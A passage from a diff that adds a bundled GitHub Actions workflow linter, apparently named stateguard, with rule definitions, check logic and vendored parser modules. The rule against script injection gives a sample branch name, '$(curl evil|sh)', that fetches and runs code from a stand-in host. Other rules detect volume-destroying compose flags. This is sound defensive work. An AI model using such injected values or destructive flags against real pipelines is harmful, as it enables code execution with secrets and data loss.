+        fix: 'Correct the key, value or `${{ }}` expression at the reported position, as the message says.',
+    },
+    {
+        id: 'SG001',
+        name: 'workflow-yaml',
+        severity: 'error',
+        summary: 'The file is not a readable workflow: YAML syntax error, not valid UTF-8, larger than 1 MiB, more than one document, not a mapping, or aliases that expand too much.',
+        why: 'A workflow that cannot be read safely cannot be checked; stateguard fails closed rather than skipping it.',
+        fix: 'Fix the YAML at the reported position. Keep one workflow per file, UTF-8, under 1 MiB, and use anchors/aliases sparingly.',
+    },
+    {
+        id: 'SG101',
+        name: 'apply-automatic-trigger',
+        severity: 'error',
+        summary: 'A stateful apply (`stateful-apply`/`apply` step, or the root action with `command: apply`) is reachable from a trigger other than `workflow_dispatch`.',
+        why: 'Only a human, through `workflow_dispatch`, may change a stateful module: a push, a pull request, a schedule or a calling workflow would apply without anyone typing the confirm token and naming a verified backup. `if:` conditions are not trusted to restrict triggers (they are easy to get wrong); `workflow_call` counts as automatic because the caller can be triggered by anything.',
+        fix: 'Move the apply job to its own workflow whose only trigger is `on: workflow_dispatch`; keep `plan` in the pull-request workflow.',
+    },
+    {
+        id: 'SG102',
+        name: 'apply-input-hardcoded',
+        severity: 'error',
+        summary: '`confirm`, `backup-ref` or `allow-stateful` of an apply step is hard-coded instead of taken from the dispatch inputs.',
+        why: 'These three values are the operator\'s explicit consent, the backup they vouch for and the exact confirm token. Written into the workflow, they consent once for every future run.',
+        fix: 'Pass each one from a `workflow_dispatch` input, e.g. `allow-stateful: ${{ inputs.allow_stateful }}`, `backup-ref: ${{ inputs.backup_ref }}`, `confirm: ${{ inputs.stateful_confirm }}` (or `github.event.inputs.*`).',
+    },
+    {
+        id: 'SG103',
+        name: 'dispatch-input-unsafe',
+        severity: 'error',
+        summary: 'The dispatch input `allow_stateful` is not `type: boolean` with `default: false`, or `stateful_confirm`/`backup_ref` is not `required: true` or has a default.',
+        why: 'A consent input that defaults to yes, or a confirm token or backup reference filled in by default, lets a run apply to stateful data without the operator deciding it.',
+        fix: 'Declare `allow_stateful: {type: boolean, default: false}`, and `stateful_confirm`/`backup_ref` with `required: true` and no `default`.',
+    },
+    {
+        id: 'SG104',
+        name: 'apply-concurrency',
+        severity: 'error',
+        summary: 'An apply job has no `concurrency` group (job or workflow level), or sets `cancel-in-progress` to anything but `false`.',
+        why: 'Two applies to the same module at once race on its data; cancelling an apply mid-way is a crash in the middle of a change.',
+        fix: 'Add `concurrency: { group: stateful-apply-${{ inputs.module }}, cancel-in-progress: false }` to the apply job.',
+    },
+    {
+        id: 'SG105',
+        name: 'gate-continue-on-error',
+        severity: 'error',
+        summary: 'A guard, verify-backup, e2e-gate or apply step (or the job holding it) has `continue-on-error` set to anything but `false`.',
+        why: 'These steps exist to say no. With `continue-on-error: true` a "no" turns into a green check and the workflow goes on as if the gate had passed.',
+        fix: 'Remove `continue-on-error` from the step and its job. To react to a refusal, branch on the step\'s `failure-reason` output in a later step with `if: failure()`.',
+    },
+    {
+        id: 'SG106',
+        name: 'compose-volume-removal',
+        severity: 'error',
+        summary: '`docker compose` (or `docker-compose`) with `down -v`/`--volumes`, `-V`/`--renew-anon-volumes` or `-y`/`--yes` in a `run:` of a workflow that touches stateful modules.',
+        why: 'These flags delete or recreate volumes, or answer yes to compose\'s "data will be lost" prompt: exactly the data stateguard protects. A workflow touches stateful modules when it has a stateguard guard, apply, stateful-apply or snapshot step, or an `allow_stateful` input.',
+        fix: 'Drop the flag (`docker compose down` keeps named volumes). Change a stateful service only through stateguard\'s guarded apply; remove a volume by hand after a verified backup.',
+    },
+    {
+        id: 'SG201',
+        name: 'script-injection',
+        severity: 'error',
+        summary: '`${{ github.event.* }}`, `${{ github.head_ref }}` or `${{ inputs.* }}` is interpolated into a `run:` script or an actions/github-script `script:`.',
+        why: 'The expression is pasted into the script text before the shell or JavaScript parses it: a branch name or title such as `$(curl evil|sh)` runs as code with the job\'s token and secrets.',
+        fix: 'Pass the value through `env:` (`env: { TITLE: ${{ github.event.pull_request.title }} }`) and use `"$TITLE"` (or `process.env.TITLE`) in the script.',
+    },
+    {
+        id: 'SG202',
+        name: 'permissions',
+        severity: 'error',
+        summary: 'The workflow has no top-level `permissions`, or grants `write-all` (top level or job).',
+        why: 'Without `permissions` the token gets the repository default, often write to everything; a compromised step can then push code or rewrite workflows.',
+        fix: 'Add a top-level `permissions:` with the least the workflow needs (e.g. `contents: read`) and widen per job only where needed (e.g. `pull-requests: write` for the plan comment).',
+    },
+    {
+        id: 'SG203',
+        name: 'untrusted-checkout',
+        severity: 'error',
+        summary: '`pull_request_target` or `workflow_run` together with an actions/checkout of the pull request\'s head.',
+        why: 'Those triggers run with the base repository\'s secrets and a write token; checking out the PR head then runs the contributor\'s code with them ("pwn request").',
+        fix: 'Use the `pull_request` trigger for anything that builds or runs the PR\'s code, or check out only the base ref in the privileged workflow.',
+    },
+    {
+        id: 'SG301',
+        name: 'action-not-pinned',
+        severity: 'warning',
+        summary: '`uses:` does not pin the action or reusable workflow to a full 40-character commit SHA.',
+        why: 'A tag or branch can be moved to other code at any time; only a commit SHA names exactly the code that runs with your secrets.',
+        fix: 'Pin to the commit SHA and keep the tag in a comment: `uses: actions/checkout@<40-hex-sha> # v4`. Local `./` actions and `docker://` images with a `@sha256:` digest are exempt.',
+    },
+];
+const BY_ID = new Map(RULES.map((r) => [r.id, r]));
+function ruleById(id) {
+    return BY_ID.get(id);
+}
+function compareProblems(a, b) {
+    return a.file < b.file ? -1 : a.file > b.file ? 1 : a.line - b.line || a.column - b.column || (a.rule < b.rule ? -1 : a.rule > b.rule ? 1 : a.message < b.message ? -1 : a.message > b.message ? 1 : 0);
+}
+
+;// CONCATENATED MODULE: ./src/lint/checks.ts
+
+const isObj = (v) => typeof v === 'object' && v !== null && !Array.isArray(v);
+const isExpression = (v) => typeof v === 'string' && v.includes('${{');
+function parseUses(uses) {
+    const u = uses.trim();
+    if (u.startsWith('./') || u === '.')
+        return { kind: 'local', path: u.replace(/^\.\/?/, '').replace(/\/+$/, '') };
+    if (u.startsWith('docker://'))
+        return { kind: 'docker', path: u.slice('docker://'.length) };
+    const m = /^([^/@\s]+)\/([^/@\s]+)((?:\/[^@\s]*)?)@(\S+)$/.exec(u);
+    if (!m)
+        return { kind: 'invalid', path: u };
+    return { kind: 'remote', owner: m[1], repo: m[2], path: (m[3] ?? '').replace(/^\/+|\/+$/g, ''), ref: m[4] };
+}
+/**
+ * The stateguard command a step runs, or undefined when it is not a stateguard step.
+ * A stateguard step's `uses:` names a repository called `stateguard` (any owner, ref, sub-path),
+ * a local `./actions/<name>`, or the root action (`./` or `owner/stateguard@ref`) with
+ * `with.command`. A root action whose command is an expression returns '*': it may be anything,
+ * including apply, and is treated so (fail closed).
+ */
+function stateguardCommand(step) {
+    if (typeof step.uses !== 'string')
+        return undefined;
+    const ref = parseUses(step.uses);
+    let sub;
+    if (ref.kind === 'local') {
+        if (ref.path === '')
+            sub = '';
+        else {
+            const m = /^actions\/([^/]+)$/.exec(ref.path);
+            if (!m)
+                return undefined;
+            sub = m[1];
+        }
+    }
+    else if (ref.kind === 'remote' && ref.repo.toLowerCase() === 'stateguard') {
+        sub = ref.path === '' ? '' : ref.path.split('/').pop();
+    }
+    else {
+        return undefined;
+    }
+    if (sub !== '')
+        return sub.toLowerCase();
+    const command = isObj(step.with) ? step.with.command : undefined;
+    if (command === undefined || command === null)
+        return undefined;
+    if (isExpression(command))
+        return '*';
+    return String(command).trim().toLowerCase();
+}
+const APPLY = new Set(['apply', 'stateful-apply', '*']);
+const GATES = new Set(['guard', 'verify-backup', 'e2e-gate', 'apply', 'stateful-apply', '*']);
+const TOUCHES_STATEFUL = new Set(['guard', 'apply', 'stateful-apply', 'snapshot', '*']);
+function checkWorkflow(wf) {
+    const problems = [];
+    const report = (rule, pos, message) => {
+        problems.push({ file: wf.file, line: pos.line, column: pos.column, rule, severity: ruleById(rule).severity, message });
+    };
+    const root = wf.value;
+    const triggers = triggerNames(root.on);
+    const jobs = [];
+    if (isObj(root.jobs)) {
+        for (const [id, job] of Object.entries(root.jobs)) {
+            if (!isObj(job))
+                continue;
+            const steps = [];
+            if (Array.isArray(job.steps)) {
+                job.steps.forEach((step, index) => {
+                    if (isObj(step))
+                        steps.push({ jobId: id, index, step, path: ['jobs', id, 'steps', index], command: stateguardCommand(step) });
+                });
+            }
+            jobs.push({ id, job, steps });
+        }
+    }
+    const allSteps = jobs.flatMap((j) => j.steps);
+    const dispatch = isObj(root.on) ? root.on.workflow_dispatch : undefined;
+    const dispatchInputs = isObj(dispatch) && isObj(dispatch.inputs) ? dispatch.inputs : {};
+    const describe = (s) => `step ${s.index + 1} of job '${s.jobId}' (${String(s.step.uses)}${s.command === '*' ? ', command given by an expression: stateguard assumes it may be apply' : ''})`;
+    // SG101: stateful apply reachable from anything but workflow_dispatch.
+    const automatic = triggers.filter((t) => t !== 'workflow_dispatch');
+    for (const s of allSteps) {
+        if (!s.command || !APPLY.has(s.command))
+            continue;
+        if (automatic.length > 0) {
+            report('SG101', wf.at([...s.path, 'uses']), `${describe(s)} applies to stateful modules but this workflow also runs on ${automatic.map((t) => `'${t}'`).join(', ')}; only workflow_dispatch may apply (move the apply to a workflow triggered only by workflow_dispatch)`);
+        }
+        else if (triggers.length === 0) {
+            report('SG101', wf.at([...s.path, 'uses']), `${describe(s)} applies to stateful modules but the workflow declares no trigger; declare 'on: workflow_dispatch' only`);
+        }
+    }
+    // SG102: consent values of an apply step must come from dispatch inputs.
+    for (const s of allSteps) {
+        if (!s.command || !APPLY.has(s.command) || !isObj(s.step.with))
+            continue;
+        for (const name of ['confirm', 'backup-ref', 'allow-stateful']) {
+            for (const key of new Set([name, name.replace(/-/g, '_')])) {
+                if (!(key in s.step.with))
+                    continue;
+                const v = s.step.with[key];
+                if (!fromDispatchInput(v)) {
+                    report('SG102', wf.at([...s.path, 'with', key]), `'${key}' of ${describe(s)} is hard-coded (${JSON.stringify(v)}); take it from a workflow_dispatch input, e.g. \${{ inputs.${name === 'confirm' ? 'stateful_confirm' : name.replace(/-/g, '_')} }}`);
+                }
+            }
+        }
+    }
+    // SG103: the shape of the consent inputs.
+    if (isObj(dispatchInputs)) {
+        const base = ['on', 'workflow_dispatch', 'inputs'];
+        const allow = dispatchInputs.allow_stateful;
+        if ('allow_stateful' in dispatchInputs) {
+            const p = [...base, 'allow_stateful'];
+            if (!isObj(allow) || allow.type !== 'boolean') {
+                report('SG103', isObj(allow) && 'type' in allow ? wf.at([...p, 'type']) : wf.at(p, 'key'), `dispatch input 'allow_stateful' must be 'type: boolean' (got ${isObj(allow) && 'type' in allow ? JSON.stringify(allow.type) : 'no type'})`);
+            }
+            if (!isObj(allow) || allow.default !== false) {
+                report('SG103', isObj(allow) && 'default' in allow ? wf.at([...p, 'default']) : wf.at(p, 'key'), `dispatch input 'allow_stateful' must have 'default: false' (got ${isObj(allow) && 'default' in allow ? JSON.stringify(allow.default) : 'no default'})`);
+            }
+        }
+        for (const name of ['stateful_confirm', 'backup_ref']) {
+            if (!(name in dispatchInputs))
+                continue;
+            const input = dispatchInputs[name];
+            const p = [...base, name];
+            if (!isObj(input) || input.required !== true) {
+                report('SG103', isObj(input) && 'required' in input ? wf.at([...p, 'required']) : wf.at(p, 'key'), `dispatch input '${name}' must be 'required: true' (got ${isObj(input) && 'required' in input ? JSON.stringify(input.required) : 'not required'})`);
+            }
+            if (isObj(input) && 'default' in input) {
+                report('SG103', wf.at([...p, 'default']), `dispatch input '${name}' must not have a default (got ${JSON.stringify(input.default)}): the operator types it for each run`);
+            }
+        }
+    }
+    // SG104: apply jobs hold a concurrency group and are never cancelled in progress.
+    const wfConcurrency = root.concurrency;
+    for (const j of jobs) {
+        const applySteps = j.steps.filter((s) => s.command && APPLY.has(s.command));
+        if (applySteps.length === 0)
+            continue;
+        const jobConcurrency = j.job.concurrency;
+        if (!hasGroup(jobConcurrency) && !hasGroup(wfConcurrency)) {
+            report('SG104', wf.at(['jobs', j.id], 'key'), `job '${j.id}' runs a stateful apply without a concurrency group; add 'concurrency: { group: stateful-apply-\${{ inputs.module }}, cancel-in-progress: false }'`);
+        }
+        for (const [c, p] of [
+            [jobConcurrency, ['jobs', j.id, 'concurrency']],
+            [wfConcurrency, ['concurrency']],
+        ]) {
+            if (isObj(c) && 'cancel-in-progress' in c && c['cancel-in-progress'] !== false) {
+                report('SG104', wf.at([...p, 'cancel-in-progress']), `job '${j.id}' runs a stateful apply with cancel-in-progress ${JSON.stringify(c['cancel-in-progress'])}; cancelling mid-apply is a crash: set it to false or remove it`);
+            }
+        }
+    }
+    // SG105: gates never continue on error (step or job level).
+    for (const j of jobs) {
+        const gates = j.steps.filter((s) => s.command && GATES.has(s.command));
+        for (const s of gates) {
+            if ('continue-on-error' in s.step && s.step['continue-on-error'] !== false) {
+                report('SG105', wf.at([...s.path, 'continue-on-error']), `${describe(s)} has continue-on-error ${JSON.stringify(s.step['continue-on-error'])}: its "no" would pass; remove it`);
+            }
+        }
+        if (gates.length > 0 && 'continue-on-error' in j.job && j.job['continue-on-error'] !== false) {
+            report('SG105', wf.at(['jobs', j.id, 'continue-on-error']), `job '${j.id}' holds ${gates.length === 1 ? 'a stateguard gate' : `${gates.length} stateguard gates`} (${gates.map((g) => g.command).join(', ')}) and has continue-on-error ${JSON.stringify(j.job['continue-on-error'])}: a "no" would pass; remove it`);
+        }
+    }
+    // SG201: script injection in run: and github-script's script:.
+    for (const s of allSteps) {
+        const targets = [];
+        if (typeof s.step.run === 'string')
+            targets.push({ path: [...s.path, 'run'], text: s.step.run, what: 'run' });
+        if (typeof s.step.uses === 'string' && /^actions\/github-script@/i.test(s.step.uses.trim()) && isObj(s.step.with) && typeof s.step.with.script === 'string') {
+            targets.push({ path: [...s.path, 'with', 'script'], text: s.step.with.script, what: 'script' });
+        }
+        for (const t of targets) {
+            let k = 0;
+            for (const m of t.text.matchAll(EXPRESSION)) {
+                const body = m[1];
+                if (UNTRUSTED.test(body)) {
+                    report('SG201', wf.positionInScalar(t.path, EXPRESSION, k), `\${{${body}}} is interpolated into ${t.what === 'run' ? 'a run: script' : 'a github-script script:'} of step ${s.index + 1} in job '${s.jobId}' (script injection); pass it through env: and use the variable instead`);
+                }
+                k++;
+            }
+        }
+    }
+    // SG202: least-privilege token.
+    if (!('permissions' in root)) {
+        report('SG202', { line: 1, column: 1 }, "the workflow has no top-level 'permissions'; declare the least it needs, e.g. 'permissions: { contents: read }'");
+    }
+    else if (root.permissions === 'write-all') {
+        report('SG202', wf.at(['permissions']), "top-level 'permissions: write-all' grants every scope; list only what the workflow needs");
+    }
+    for (const j of jobs) {
+        if (j.job.permissions === 'write-all') {
+            report('SG202', wf.at(['jobs', j.id, 'permissions']), `job '${j.id}' has 'permissions: write-all'; list only what the job needs`);
+        }
+    }
+    // SG203: privileged triggers with a checkout of the PR head.
+    const privileged = triggers.filter((t) => t === 'pull_request_target' || t === 'workflow_run');
+    if (privileged.length > 0) {
+        for (const s of allSteps) {
+            if (typeof s.step.uses !== 'string' || !/^actions\/checkout@/i.test(s.step.uses.trim()) || !isObj(s.step.with))
+                continue;
+            for (const key of ['ref', 'repository']) {
+                const v = s.step.with[key];
+                if (typeof v === 'string' && PR_HEAD.test(v)) {
+                    report('SG203', wf.at([...s.path, 'with', key]), `step ${s.index + 1} of job '${s.jobId}' checks out the pull request head (${key}: ${v}) in a workflow triggered by ${privileged.join(', ')}, which runs with secrets and a write token`);
+                }
+            }
+        }
+    }
+    // SG106: volume-destroying compose flags in a workflow that touches stateful modules.
+    const touchesStateful = allSteps.some((s) => s.command && TOUCHES_STATEFUL.has(s.command)) || 'allow_stateful' in dispatchInputs;
+    if (touchesStateful) {
+        for (const s of allSteps) {
+            if (typeof s.step.run !== 'string')
+                continue;
+            for (const hit of composeVolumeRemovals(s.step.run)) {
+                report('SG106', wf.positionInScalar([...s.path, 'run'], COMPOSE, hit.occurrence), `'${hit.command}' in step ${s.index + 1} of job '${s.jobId}' ${hit.effect}, in a workflow that touches stateful modules`);
+            }
+        }
+    }
+    // SG301: pin every action and reusable workflow to a commit SHA.
+    const pinTargets = [];
+    for (const j of jobs)
+        if (typeof j.job.uses === 'string')
+            pinTargets.push({ path: ['jobs', j.id, 'uses'], uses: j.job.uses });
+    for (const s of allSteps)
+        if (typeof s.step.uses === 'string')
+            pinTargets.push({ path: [...s.path, 'uses'], uses: s.step.uses });
+    for (const t of pinTargets) {
+        const ref = parseUses(t.uses);
+        if (ref.kind === 'local')
+            continue;
+        if (ref.kind === 'docker') {
+            if (!/@sha256:[0-9a-f]{64}$/.test(ref.path))
+                report('SG301', wf.at(t.path), `'${t.uses}' is not pinned to an image digest; use docker://image@sha256:<digest>`);
+            continue;
+        }
+        if (ref.kind === 'remote' && /^[0-9a-f]{40}$/.test(ref.ref))
+            continue;
+        report('SG301', wf.at(t.path), `'${t.uses}' is not pinned to a full commit SHA; use ${ref.kind === 'remote' ? `${ref.owner}/${ref.repo}${ref.path ? `/${ref.path}` : ''}` : '<owner>/<repo>'}@<40-hex-sha> # ${ref.ref ?? 'tag'}`);
+    }
+    return problems;
+}
+/** `${{ ... }}` (the body may span lines in a block scalar). */
+const EXPRESSION = /\$\{\{([\s\S]*?)\}\}/g;
+/** Contexts an outsider or a dispatcher controls. `github.event_name` is not one of them. */
+const UNTRUSTED = /(?:^|[^\w.'"])(?:github\s*\.\s*event\s*[.[]|github\s*\.\s*head_ref\b|github\s*\[\s*['"](?:event|head_ref)['"]\s*\]|inputs\s*[.[])/;
+const PR_HEAD = /github\s*\.\s*event\s*\.\s*pull_request\s*\.\s*head|github\s*\.\s*head_ref|github\s*\.\s*event\s*\.\s*workflow_run\s*\.\s*head_|\bhead_ref\b|refs\/pull\//;
+const DISPATCH_INPUT = /^\s*\$\{\{\s*(?:inputs|github\s*\.\s*event\s*\.\s*inputs)\s*(?:\.\s*[A-Za-z_][\w-]*|\[\s*'[^']+'\s*\])\s*\}\}\s*$/;
+function fromDispatchInput(v) {
+    return typeof v === 'string' && DISPATCH_INPUT.test(v);
+}
+function hasGroup(c) {
+    if (typeof c === 'string')
+        return c.trim() !== '';
+    return isObj(c) && typeof c.group === 'string' && c.group.trim() !== '';
+}
+function triggerNames(on) {
+    if (typeof on === 'string')
+        return [on];
+    if (Array.isArray(on))
+        return on.filter((t) => typeof t === 'string');
+    if (isObj(on))
+        return Object.keys(on);
+    return [];
+}
+/** `docker compose` / `docker-compose` at the start of a command word. */
+const COMPOSE = /(?<![\w-])(?:docker[ \t]+compose|docker-compose)(?![\w-])/g;
+/** Compose options that take a value, so the value is not mistaken for the subcommand. */
+const VALUE_FLAGS = new Set(['-f', '--file', '-p', '--project-name', '--project-directory', '--env-file', '--profile', '--ansi', '--parallel', '--progress', '-c', '--context', '-H', '--host', '--log-level']);
+/** Subcommands whose arguments after the service are the container's command, not compose flags. */
+const PASS_THROUGH = new Set(['run', 'exec']);
+/** Every compose invocation in a script that deletes or recreates volumes, or auto-confirms it. */
+function composeVolumeRemovals(script) {
+    const hits = [];
+    let occurrence = 0;
+    for (const m of script.matchAll(COMPOSE)) {
+        const current = occurrence++;
+        const rest = script.slice(m.index + m[0].length);
+        // The command ends at an unescaped newline or a shell separator.
+        const end = rest.search(/(?<!\\)\n|;|&&|\|\||\||&/);
+        const text = (end === -1 ? rest : rest.slice(0, end)).replace(/\\\n/g, ' ');
+        const words = [];
+        for (const w of text.split(/\s+/)) {
+            if (w.startsWith('#'))
+                break;
+            if (w)
+                words.push(w.replace(/^['"]|['"]$/g, ''));
+        }
+        let sub;
+        const flags = [];
+        for (let i = 0; i < words.length; i++) {
+            const w = words[i];
+            if (w.startsWith('-')) {
+                flags.push(w);
+                if (!sub && VALUE_FLAGS.has(w))
+                    i++;
+                continue;
+            }
+            if (!sub)
+                sub = w;
+            else if (PASS_THROUGH.has(sub))
+                break;
+        }
+        const effects = [];
+        const short = (f) => (/^-[A-Za-z]+$/.test(f) ? f.slice(1) : '');
+        if (sub === 'down' && flags.some((f) => f === '--volumes' || f === '--volumes=true' || short(f).includes('v')))
+            effects.push('removes volumes (down -v/--volumes)');
+        if (flags.some((f) => f === '--renew-anon-volumes' || short(f).includes('V')))
+            effects.push('recreates anonymous volumes (-V/--renew-anon-volumes)');
+        if (flags.some((f) => f === '--yes' || short(f).includes('y')))
+            effects.push('answers yes to data-loss prompts (-y/--yes)');
+        if (effects.length > 0) {
+            hits.push({ occurrence: current, command: `${m[0]} ${words.join(' ')}`.trim(), effect: effects.join(' and ') });
+        }
+    }
+    return hits;
+}
+
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/features.js
+/**
+ * All known experimental feature keys.
+ * This list must be kept in sync with the ExperimentalFeatures interface.
+ */
+const allFeatureKeys = [
+    "missingInputsQuickfix",
+    "blockScalarChompingWarning",
+    "allowCaseFunction",
+    "allowCopilotRequestsPermission",
+    "allowDrivesPermissionAutocomplete",
+    "allowBackgroundSteps"
+];
+class features_FeatureFlags {
+    constructor(features) {
+        this.features = features ?? {};
+    }
+    /**
+     * Check if an experimental feature is enabled.
+     *
+     * Resolution order:
+     * 1. Explicit feature flag (if set)
+     * 2. `all` flag (if set)
+     * 3. false (default)
+     */
+    isEnabled(feature) {
+        const explicit = this.features[feature];
+        if (explicit !== undefined) {
+            return explicit;
+        }
+        return this.features.all ?? false;
+    }
+    /**
+     * Returns list of all enabled experimental features.
+     */
+    getEnabledFeatures() {
+        return allFeatureKeys.filter(key => this.isEnabled(key));
+    }
+}
+//# sourceMappingURL=features.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/workflow-parser/dist/templates/tokens/types.js
+var types_TokenType;
+(function (TokenType) {
+    TokenType[TokenType["String"] = 0] = "String";
+    TokenType[TokenType["Sequence"] = 1] = "Sequence";
+    TokenType[TokenType["Mapping"] = 2] = "Mapping";
+    TokenType[TokenType["BasicExpression"] = 3] = "BasicExpression";
+    TokenType[TokenType["InsertExpression"] = 4] = "InsertExpression";
+    TokenType[TokenType["Boolean"] = 5] = "Boolean";
+    TokenType[TokenType["Number"] = 6] = "Number";
+    TokenType[TokenType["Null"] = 7] = "Null";
+})(types_TokenType || (types_TokenType = {}));
+function tokenTypeName(type) {
+    switch (type) {
+        case types_TokenType.String:
+            return "StringToken";
+        case types_TokenType.Sequence:
+            return "SequenceToken";
+        case types_TokenType.Mapping:
+            return "MappingToken";
+        case types_TokenType.BasicExpression:
+            return "BasicExpressionToken";
+        case types_TokenType.InsertExpression:
+            return "InsertExpressionToken";
+        case types_TokenType.Boolean:
+            return "BooleanToken";
+        case types_TokenType.Number:
+            return "NumberToken";
+        case types_TokenType.Null:
+            return "NullToken";
+        default: {
+            // Use never to ensure exhaustiveness
+            const exhaustiveCheck = type;
+            throw new Error(`Unhandled token type: ${type} ${exhaustiveCheck}}`);
+        }
+    }
+}
+//# sourceMappingURL=types.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/workflow-parser/dist/templates/tokens/traversal-state.js
+
+class TraversalState {
+    constructor(parent, token) {
+        this.index = -1;
+        this.isKey = false;
+        this.parent = parent;
+        this._token = token;
+        this.current = token;
+    }
+    moveNext(omitKeys) {
+        switch (this._token.templateTokenType) {
+            case types_TokenType.Sequence: {
+                const sequence = this._token;
+                if (++this.index < sequence.count) {
+                    this.current = sequence.get(this.index);
+                    return true;
+                }
+                this.current = undefined;
+                return false;
+            }
+            case types_TokenType.Mapping: {
+                const mapping = this._token;
+                // Already returned the key, now return the value
+                if (this.isKey) {
+                    this.isKey = false;
+                    this.currentKey = this.current;
+                    this.current = mapping.get(this.index).value;
+                    return true;
+                }
+                // Move next
+                if (++this.index < mapping.count) {
+                    // Skip the key, return the value
+                    if (omitKeys) {
+                        this.isKey = false;
+                        this.currentKey = mapping.get(this.index).key;
+                        this.current = mapping.get(this.index).value;
+                        return true;
+                    }
+                    // Return the key
+                    this.isKey = true;
+                    this.currentKey = undefined;
+                    this.current = mapping.get(this.index).key;
+                    return true;
+                }
+                this.currentKey = undefined;
+                this.current = undefined;
+                return false;
+            }
+            default:
+                throw new Error(`Unexpected token type '${this._token.templateTokenType}' when traversing state`);
+        }
+    }
+    /**
+     * Returns the ancestor tokens from root to the current token's parent container.
+     */
+    getAncestors() {
+        const ancestors = [];
+        let state = this.parent;
+        while (state) {
+            if (state.current) {
+                ancestors.unshift(state.current);
+            }
+            state = state.parent;
+        }
+        return ancestors;
+    }
+}
+//# sourceMappingURL=traversal-state.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/workflow-parser/dist/templates/tokens/template-token.js
+
+
+class TemplateTokenError extends Error {
+    constructor(message, token) {
+        super(message);
+        this.token = token;
+    }
+}
+class TemplateToken {
+    /**
+     * Base class for all template tokens
+     */
+    constructor(type, file, range, definitionInfo) {
+        this.type = type;
+        this.file = file;
+        this.range = range;
+        this.definitionInfo = definitionInfo;
+    }
+    get templateTokenType() {
+        return this.type;
+    }
+    get line() {
+        return this.range?.start.line;
+    }
+    get col() {
+        return this.range?.start.column;
+    }
+    get definition() {
+        return this.definitionInfo?.definition;
+    }
+    get description() {
+        return this._description || this.propertyDefinition?.description || this.definition?.description;
+    }
+    set description(description) {
+        this._description = description;
+    }
+    typeName() {
+        return tokenTypeName(this.type);
+    }
+    /**
+     * Asserts expected type and throws a good debug message if unexpected
+     */
+    assertNull(objectDescription) {
+        if (this.type === types_TokenType.Null) {
+            return this;
+        }
+        throw new TemplateTokenError(`Unexpected type '${this.typeName()}' encountered while reading '${objectDescription}'. The type '${tokenTypeName(types_TokenType.Null)}' was expected.`, this);
+    }
+    /**
+     * Asserts expected type and throws a good debug message if unexpected
+     */
+    assertBoolean(objectDescription) {
+        if (this.type === types_TokenType.Boolean) {
+            return this;
+        }
+        throw new TemplateTokenError(`Unexpected type '${this.typeName()}' encountered while reading '${objectDescription}'. The type '${tokenTypeName(types_TokenType.Boolean)}' was expected.`, this);
+    }
+    /**
+     * Asserts expected type and throws a good debug message if unexpected
+     */
+    assertNumber(objectDescription) {
+        if (this.type === types_TokenType.Number) {
+            return this;
+        }
+        throw new TemplateTokenError(`Unexpected type '${this.typeName()}' encountered while reading '${objectDescription}'. The type '${tokenTypeName(types_TokenType.Number)}' was expected.`, this);
+    }
+    /**
+     * Asserts expected type and throws a good debug message if unexpected
+     */
+    assertString(objectDescription) {
+        if (this.type === types_TokenType.String) {
+            return this;
+        }
+        throw new TemplateTokenError(`Unexpected type '${this.typeName()}' encountered while reading '${objectDescription}'. The type '${tokenTypeName(types_TokenType.String)}' was expected.`, this);
+    }
+    /**
+     * Asserts expected type and throws a good debug message if unexpected
+     */
+    assertScalar(objectDescription) {
+        if (this?.isScalar === true) {
+            return this;
+        }
+        throw new TemplateTokenError(`Unexpected type '${this.typeName()}' encountered while reading '${objectDescription}'. The type 'ScalarToken' was expected.`, this);
+    }
+    /**
+     * Asserts expected type and throws a good debug message if unexpected
+     */
+    assertSequence(objectDescription) {
+        if (this.type === types_TokenType.Sequence) {
+            return this;
+        }
+        throw new TemplateTokenError(`Unexpected type '${this.typeName()}' encountered while reading '${objectDescription}'. The type '${tokenTypeName(types_TokenType.Sequence)}' was expected.`, this);
+    }
+    /**
+     * Asserts expected type and throws a good debug message if unexpected
+     */
+    assertMapping(objectDescription) {
+        if (this.type === types_TokenType.Mapping) {
+            return this;
+        }
+        throw new TemplateTokenError(`Unexpected type '${this.typeName()}' encountered while reading '${objectDescription}'. The type '${tokenTypeName(types_TokenType.Mapping)}' was expected.`, this);
+    }
+    /**
+     * Returns all tokens (depth first)
+     * @param value The object to traverse
+     * @param omitKeys Whether to omit mapping keys
+     * @yields A tuple of [parent, token, keyToken, ancestors] for each token in the tree
+     */
+    static *traverse(value, omitKeys) {
+        yield [undefined, value, undefined, []];
+        switch (value.templateTokenType) {
+            case types_TokenType.Sequence:
+            case types_TokenType.Mapping: {
+                let state = new TraversalState(undefined, value);
+                state = new TraversalState(state, value);
+                while (state.parent) {
+                    if (state.moveNext(omitKeys ?? false)) {
+                        value = state.current;
+                        yield [state.parent?.current, value, state.currentKey, state.getAncestors()];
+                        switch (value.type) {
+                            case types_TokenType.Sequence:
+                            case types_TokenType.Mapping:
+                                state = new TraversalState(state, value);
+                                break;
+                        }
+                    }
+                    else {
+                        state = state.parent;
+                    }
+                }
+                break;
+            }
+        }
+    }
+    toJSON() {
+        return undefined;
+    }
+}
+//# sourceMappingURL=template-token.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/workflow-parser/dist/workflows/file-reference.js
+function parseFileReference(ref) {
+    if (ref.startsWith("./")) {
+        return {
+            path: ref.substring(2)
+        };
+    }
+    // Self repository reference: `$/<path>` resolves within the same repository at the running
+    // SHA, exactly like `./` for local references.
+    if (ref.startsWith("$/")) {
+        return {
+            path: ref.substring(2)
+        };
+    }
+    const [remotePath, version] = ref.split("@");
+    const [owner, repository, ...pathSegments] = remotePath.split("/").filter(s => s.length > 0);
+    if (!owner || !repository || !version) {
+        throw new Error(`Invalid file reference: ${ref}`);
+    }
+    return {
+        repository,
+        owner,
+        path: pathSegments.join("/"),
+        version
+    };
+}
+function fileIdentifier(ref) {
+    if (!("repository" in ref)) {
+        return "./" + ref.path;
+    }
+    return `${ref.owner}/${ref.repository}/${ref.path}@${ref.version}`;
+}
+//# sourceMappingURL=file-reference.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/workflow-parser/dist/templates/template-validation-error.js
+/**
+ * Provides information about an error which occurred during validation
+ */
+class TemplateValidationError {
+    constructor(rawMessage, prefix, code, range) {
+        this.rawMessage = rawMessage;
+        this.prefix = prefix;
+        this.code = code;
+        this.range = range;
+    }
+    get message() {
+        if (this.prefix) {
+            return `${this.prefix}: ${this.rawMessage}`;
+        }
